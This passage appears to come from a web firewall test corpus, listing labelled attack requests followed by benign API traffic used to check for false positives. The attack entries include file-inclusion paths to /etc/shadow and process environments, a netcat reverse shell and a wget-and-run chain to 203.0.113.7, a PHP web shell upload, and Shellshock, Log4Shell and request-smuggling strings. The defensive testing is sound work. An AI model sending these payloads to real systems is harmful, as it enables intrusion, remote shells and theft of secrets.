  { category: 'lfi-rfi', name: 'absolute path to /etc/shadow', why: 'Local file inclusion of a system file', path: '/api/templates?file=/etc/shadow' },
  { category: 'lfi-rfi', name: 'php://filter wrapper', why: 'LFI through a PHP stream wrapper', path: '/api/page?view=php://filter/convert.base64-encode/resource=index.php' },
  { category: 'lfi-rfi', name: 'remote include by IP', why: 'RFI from an attacker host addressed by IP', path: '/api/page?include=http://203.0.113.7/shell.txt?' },
  { category: 'lfi-rfi', name: 'file:// URL', why: 'LFI via a file URL in a fetch parameter', path: '/api/fetch?url=file:///etc/passwd' },
  { category: 'lfi-rfi', name: 'proc self environ', why: 'LFI reading the process environment (secrets)', path: '/api/logs?file=/proc/self/environ' },
  // Command injection
  { category: 'cmdi', name: 'semicolon then cat', why: 'Command chaining after a host parameter', path: '/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd' },
  { category: 'cmdi', name: 'pipe to netcat in JSON', why: 'Reverse shell through a JSON tool argument', method: 'POST', path: '/api/tools/run', headers: auth, json: { target: 'example.com | nc 203.0.113.7 4444 -e /bin/sh' } },
  { category: 'cmdi', name: 'command substitution $(whoami)', why: 'Shell command substitution in a parameter', path: '/api/tools/lookup?domain=$(whoami).example.com' },
  { category: 'cmdi', name: 'backtick substitution', why: 'Backtick command substitution', path: '/api/tools/lookup?domain=%60id%60' },
  { category: 'cmdi', name: 'shellshock in User-Agent', why: 'CVE-2014-6271 function definition in a header', path: '/api/health', headers: { 'User-Agent': "() { :; }; /bin/bash -c 'cat /etc/passwd'" } },
  { category: 'cmdi', name: 'log4shell JNDI lookup in a header', why: 'CVE-2021-44228 in a header an app may log', path: '/api/health', headers: { 'X-Api-Version': '${jndi:ldap://203.0.113.7:1389/a}' } },
  { category: 'cmdi', name: 'wget and run', why: 'Download-and-execute chained with &&', method: 'POST', path: '/api/tools/run', headers: auth, json: { host: '8.8.8.8 && wget http://203.0.113.7/x.sh -O /tmp/x.sh && sh /tmp/x.sh' } },
  // Malicious uploads
  { category: 'upload', name: 'PHP web shell', why: 'Upload of a server-side script', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'shell.php', contentType: 'application/x-php', content: '<?php system($_GET["c"]); ?>' }] } },
  { category: 'upload', name: 'double extension', why: 'invoice.pdf.php passes a naive "contains .pdf" check', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'invoice.pdf.php', contentType: 'application/pdf', content: 'GIF89a<?php echo 1; ?>' }] } },
  { category: 'upload', name: 'JSP shell', why: 'Executable upload for Java servers', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'report.jsp', contentType: 'text/plain', content: '<% Runtime.getRuntime(); %>' }] } },
  { category: 'upload', name: 'path traversal in file name', why: 'Writing outside the upload folder via the file name', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: '../../../var/www/html/x.csv', contentType: 'text/csv', content: 'a,b\n1,2\n' }] } },
  { category: 'upload', name: '.htaccess upload', why: 'Hidden server config file that re-enables execution', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: '.htaccess', contentType: 'text/plain', content: 'AddType application/x-httpd-php .png' }] } },
  { category: 'upload', name: 'Windows executable', why: 'Malware upload with an .exe name', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'setup.exe', contentType: 'application/octet-stream', content: 'MZ\x90\x00' }] } },
  // HTTP protocol attacks
  { category: 'protocol', name: 'CRLF response splitting', why: 'Header injection through an encoded CR LF in a parameter', path: '/api/auth/callback?next=%0d%0aSet-Cookie:%20admin=true' },
  { category: 'protocol', name: 'request smuggling CL + TE', why: 'Both Content-Length and Transfer-Encoding (CL.TE desync)', raw: 'POST /api/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG' },
  { category: 'protocol', name: 'NUL byte in the path', why: 'Null byte to truncate a file extension check', path: '/api/files/report.csv%00.php' },
  { category: 'protocol', name: 'HTTP/1.1 without Host', why: 'Protocol violation: HTTP/1.1 requires Host', raw: 'GET /api/health HTTP/1.1\r\nUser-Agent: x\r\n\r\n' },
  { category: 'protocol', name: 'content type not accepted by the API', why: 'Body in a content type the API does not speak (parser confusion)', method: 'POST', path: '/api/runs', headers: { 'Content-Type': 'application/x-java-serialized-object' }, body: '\xac\xed\x00\x05sr' },
  { category: 'protocol', name: 'TRACE method (cross-site tracing)', why: 'TRACE echoes the request, cookies and auth headers included (XST); nginx refuses it before ModSecurity runs', method: 'TRACE', path: '/api/health' },
  { category: 'protocol', name: 'CONNECT method (open proxy probe)', why: 'CONNECT probes for an open proxy to tunnel through the edge', raw: 'CONNECT 203.0.113.7:443 HTTP/1.1\r\nHost: 203.0.113.7:443\r\n\r\n' },
  { category: 'protocol', name: 'header folding smuggles a header', why: 'Obsolete line folding to hide a header from the WAF', raw: 'GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-Foo: bar\r\n Transfer-Encoding: chunked\r\n\r\n' },
  // Scanners
  { category: 'scanner', name: 'sqlmap user agent', why: 'Automated SQL injection tool', path: '/api/items?id=1', headers: { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } },
  { category: 'scanner', name: 'Nikto user agent', why: 'Web vulnerability scanner', path: '/', headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' } },
  { category: 'scanner', name: 'nuclei user agent', why: 'Template-based vulnerability scanner', path: '/api/health', headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' } },
  { category: 'scanner', name: 'ffuf fuzzer', why: 'Content discovery fuzzer', path: '/api/admin', headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0' } },
  { category: 'scanner', name: 'probe for .env', why: 'Scanners probe for leaked environment files', path: '/.env' },
  { category: 'scanner', name: 'probe for .git/config', why: 'Scanners probe for exposed git metadata', path: '/.git/config' },
  ...INDEPENDENT_ATTACKS,
  ...HOLDOUT_2_ATTACKS,
  ...MATRIX_ATTACKS,
  ...XXE_ATTACKS,
  ...OTHER_ATTACKS,
  ...HOLDOUT_3_ATTACKS,
  ...ENCODED_ATTACKS,
  ...HOLDOUT_4_ATTACKS,
  ...HOLDOUT_5_ATTACKS,
  ...HOLDOUT_6_ATTACKS,
  ...HOLDOUT_7_ATTACKS,
  ...HOLDOUT_8_ATTACKS,
  ...HOLDOUT_9_ATTACKS,
  ...HOLDOUT_10_ATTACKS,
];

export const BENIGN: CorpusEntry[] = [
  { category: 'read', name: 'list agents with pagination', why: 'The most common call', path: '/api/agents?page=2&per_page=50', headers: auth },
  { category: 'read', name: 'search with SQL-like words', why: 'Users search for words such as select, union, drop', path: '/api/search?q=select%20union%20drop%20table%20tennis', headers: auth },
  { category: 'read', name: 'filter and sort expression', why: 'API filter syntax with colons and a minus sort', path: '/api/runs?filter=status:active,owner:me&sort=-created_at', headers: auth },
  { category: 'read', name: 'non-ASCII query', why: 'Searches in other scripts, percent-encoded UTF-8', path: '/api/search?q=%E6%9D%B1%E4%BA%AC%20M%C3%BCnchen%20%C5%81%C3%B3d%C5%BA', headers: auth },
  { category: 'read', name: 'get one run by UUID', why: 'Path ids are UUIDs', path: '/api/runs/5f0c1e8a-3b7d-4c1e-9a2f-0d6b8e4c7a11', headers: auth },
  { category: 'read', name: 'conditional GET with ETag', why: 'Caching clients send If-None-Match', path: '/api/agents/7', headers: { ...auth, 'If-None-Match': 'W/"a1b2c3"' } },
  { category: 'read', name: 'HEAD on a file', why: 'Clients check size before download', method: 'HEAD', path: '/api/files/report-2026-q3.pdf', headers: auth },
  { category: 'read', name: 'CORS preflight', why: 'Browsers send OPTIONS before a cross-origin PATCH', method: 'OPTIONS', path: '/api/agents/7', headers: { Origin: 'https://app.factory.example.com', 'Access-Control-Request-Method': 'PATCH', 'Access-Control-Request-Headers': 'authorization,content-type' } },
  { category: 'read', name: 'dashboard page', why: 'The dashboard is served outside /api', path: '/dashboard/runs?tab=failed', headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', Accept: 'text/html,application/xhtml+xml', 'Accept-Language': 'pt-BR,pt;q=0.9,en;q=0.8' } },
  { category: 'read', name: 'health check', why: 'Load balancers poll it', path: '/api/health', headers: { 'User-Agent': 'kube-probe/1.30' } },
  { category: 'read', name: 'date range query', why: 'ISO timestamps with colons and plus signs', path: '/api/metrics?from=2026-01-01T00:00:00%2B01:00&to=2026-01-31T23:59:59Z&step=1h', headers: auth },
  { category: 'read', name: 'curl client', why: 'Operators script the API with curl', path: '/api/agents?status=idle', headers: { ...auth, 'User-Agent': 'curl/8.5.0' } },
  { category: 'read', name: 'python requests client', why: 'SDK users in Python', path: '/api/agents?owner=me', headers: { ...auth, 'User-Agent': 'python-requests/2.32.3' } },
  { category: 'write', name: 'create an agent with apostrophes', why: 'Prose with apostrophes and names like O\'Brien', method: 'POST', path: '/api/agents', headers: auth, json: { name: "O'Brien's helper", description: "It's the team's agent: don't let it run overnight; it'll summarise Siobhán's notes." } },
  { category: 'write', name: 'prompt with SQL-like prose', why: 'Prompts talk about selecting, dropping and joining things', method: 'POST', path: '/api/runs', headers: auth, json: { agent: 7, prompt: "Select the best three candidates from the table, drop the ones where the score is below 5, then update the summary and insert a short note for Ana's review." } },
  { category: 'write', name: 'prompt mentioning "1 or 2"', why: 'Numbers joined by or/and in plain English', method: 'POST', path: '/api/runs', headers: auth, json: { agent: 3, prompt: "Pick 1 or 2 reports, and 3 and 4 only if they're relevant; where's the Q3 union agreement?" } },
  { category: 'write', name: 'markdown with inline code', why: 'Agents exchange markdown with backticks and code fences', method: 'POST', path: '/api/notes', headers: auth, json: { body: '## Steps\n1. Run `npm test` and check the **output**.\n2. If it fails, open `README.md` and read the *Setup* section.\n\n```\nconst total = items.reduce((a, b) => a + b, 0);\n```' } },
  { category: 'write', name: 'non-ASCII names', why: 'International users and content', method: 'POST', path: '/api/users', headers: auth, json: { name: 'José Müller-Łukasiewicz', city: '東京', bio: 'Ελληνικά, русский, العربية, emoji 🚀✨' } },
  { category: 'write', name: 'URLs in a webhook config', why: 'Webhook targets are URLs with queries', method: 'POST', path: '/api/webhooks', headers: auth, json: { url: 'https://hooks.example.com/services/T000/B000?token=abc&channel=%23ops', events: ['run.completed', 'run.failed'] } },
  { category: 'write', name: 'email addresses with plus', why: 'Plus-addressing in invitations', method: 'POST', path: '/api/invitations', headers: auth, json: { emails: ['ana+factory@example.com', 'li.lei@example.cn'], role: 'editor' } },
  { category: 'write', name: 'nested JSON settings', why: 'Deep objects, arrays, numbers, booleans and null', method: 'PUT', path: '/api/agents/7/settings', headers: auth, json: { model: { temperature: 0.2, max_tokens: 4096 }, tools: [{ name: 'search', enabled: true }, { name: 'calculator', enabled: false }], schedule: null } },
  { category: 'write', name: 'PATCH with merge-patch+json', why: 'RFC 7396 partial update', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ description: "Handles the client's invoices and the partners' questions." }) },
  { category: 'write', name: 'PATCH with json-patch+json', why: 'RFC 6902 operations (paths with slashes)', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/tools/0/enabled', value: false }, { op: 'remove', path: '/tags/1' }]) },
  { category: 'write', name: 'DELETE an agent', why: 'The API deletes resources', method: 'DELETE', path: '/api/agents/7', headers: auth },
  { category: 'write', name: 'DELETE with a query', why: 'Bulk deletion by filter', method: 'DELETE', path: '/api/runs?status=failed&before=2026-01-01', headers: auth },
  { category: 'write', name: 'PUT replace a document', why: 'Full replacement of a prompt template', method: 'PUT', path: '/api/templates/weekly-report', headers: auth, json: { title: 'Weekly report', text: 'Summarise what changed since {{last_run}} and list who\'s blocked (if anyone).' } },
  { category: 'write', name: 'form-encoded feedback', why: 'Classic HTML forms post url-encoded prose', method: 'POST', path: '/api/feedback', headers: { ...auth, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'rating=4&comment=Great+tool%2C+but+I+couldn%27t+find+where+to+select+the+model+%26+drop+old+runs.' },
  { category: 'write', name: 'prose with semicolons and ampersands', why: 'Normal punctuation around words like cat, id, echo', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Bring the cat & dog photos, the ID badges are at the desk; the echo in room 3 is annoying & loud.' } },
  { category: 'write', name: 'prose about files and paths', why: 'Users mention relative folders and file names', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'The report is in reports/2026/q3-summary.csv; the slides are in the shared drive under Sales > Decks.' } },
  { category: 'write', name: 'comparison operators in prose', why: 'Math and comparisons such as <5 and >= 10', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Alert when latency > 300 ms or errors >= 10 per minute; ignore if count < 5.' } },
  { category: 'write', name: 'long text body', why: 'Agents post long documents', method: 'POST', path: '/api/documents', headers: auth, json: { title: 'Minutes', text: "We discussed the roadmap. Ana said we'd ship in May; Li Lei wasn't sure. ".repeat(60) } },
  { category: 'write', name: 'ndjson batch', why: 'Batch ingestion as newline-delimited JSON', method: 'POST', path: '/api/events/batch', headers: { ...auth, 'Content-Type': 'application/x-ndjson' }, body: '{"event":"run.started","id":1}\n{"event":"run.completed","id":1}\n' },
  { category: 'auth', name: 'login with JSON credentials', why: 'Passwords contain symbols', method: 'POST', path: '/api/auth/login', json: { email: 'ana@example.com', password: 'c0rrect-H0rse!battery#Staple' } },
  { category: 'auth', name: 'token refresh', why: 'Clients refresh tokens', method: 'POST', path: '/api/auth/refresh', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ refresh_token: 'rt_9f8e7d6c5b4a3928171615141312111009' }) },
  { category: 'auth', name: 'logout with bearer token', why: 'Bearer tokens are long base64url strings', method: 'POST', path: '/api/auth/logout', headers: auth },
  { category: 'upload', name: 'CSV upload', why: 'Users upload spreadsheets (quotes, commas, non-ASCII)', method: 'POST', path: '/api/files', headers: auth, form: { fields: { description: "Q3 contacts (Siobhán's list)" }, files: [{ field: 'file', filename: 'contacts-q3.csv', contentType: 'text/csv', content: CSV }] } },
  { category: 'upload', name: 'PDF upload', why: 'Binary PDF documents', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'Relatório anual 2026.pdf', contentType: 'application/pdf', content: samplePdf() }] } },
  { category: 'upload', name: 'two files at once', why: 'Multiple parts in one upload', method: 'POST', path: '/api/files', headers: auth, form: { fields: { folder: 'reports' }, files: [{ field: 'files', filename: 'a.csv', contentType: 'text/csv', content: 'x,y\n1,2\n' }, { field: 'files', filename: 'b.pdf', contentType: 'application/pdf', content: samplePdf() }] } },
  { category: 'upload', name: 'raw CSV PUT', why: 'Uploading a dataset as the raw body', method: 'PUT', path: '/api/datasets/contacts', headers: { ...auth, 'Content-Type': 'text/csv' }, body: CSV },
  { category: 'upload', name: 'raw PDF PUT', why: 'Binary body with application/pdf', method: 'PUT', path: '/api/files/report.pdf', headers: { ...auth, 'Content-Type': 'application/pdf' }, body: samplePdf() },
  { category: 'upload', name: 'image upload', why: 'Avatars are PNG files', method: 'POST', path: '/api/users/42/avatar', headers: auth, form: { files: [{ field: 'avatar', filename: 'me.png', contentType: 'image/png', content: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex') }] } },
  { category: 'write', name: 'Q&A prose with quotes', why: 'Quoted speech, ampersands and question marks', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Q&A: "Can we select a different model?" - "Yes, and we\'ll drop the old one." Thanks & regards, Zoë' } },
  ...INDEPENDENT_BENIGN,
  ...HOLDOUT_2_BENIGN,
  ...MATRIX_BENIGN,
  ...XXE_BENIGN,
  ...OTHER_BENIGN,
  ...HOLDOUT_3_BENIGN,
  ...ENCODED_BENIGN,
  ...HOLDOUT_4_BENIGN,
  ...HOLDOUT_5_BENIGN,
  ...HOLDOUT_6_BENIGN,
  ...HOLDOUT_7_BENIGN,
  ...HOLDOUT_8_BENIGN,
  ...HOLDOUT_9_BENIGN,
  ...HOLDOUT_10_BENIGN,
];
